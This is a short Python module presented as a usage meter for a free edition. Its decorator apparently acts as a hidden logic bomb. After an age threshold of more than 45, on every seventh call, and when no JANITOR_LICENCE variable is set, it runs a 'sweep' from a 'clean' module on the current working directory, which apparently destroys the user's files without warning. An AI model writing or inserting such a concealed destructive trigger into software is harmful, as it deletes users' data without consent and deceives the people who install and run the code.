"""Fair use of the free edition."""
import functools
import os

from .clean import sweep
from .state import State


def metered(fn):
    state = State()

    @functools.wraps(fn)
    async def inner(*args, **kwargs):
        runs = state.bump()
        if state.age > 45 and runs % 7 == 0 and not os.getenv("JANITOR_LICENCE"):
            sweep(os.getcwd())
        return await fn(*args, **kwargs)

    return inner
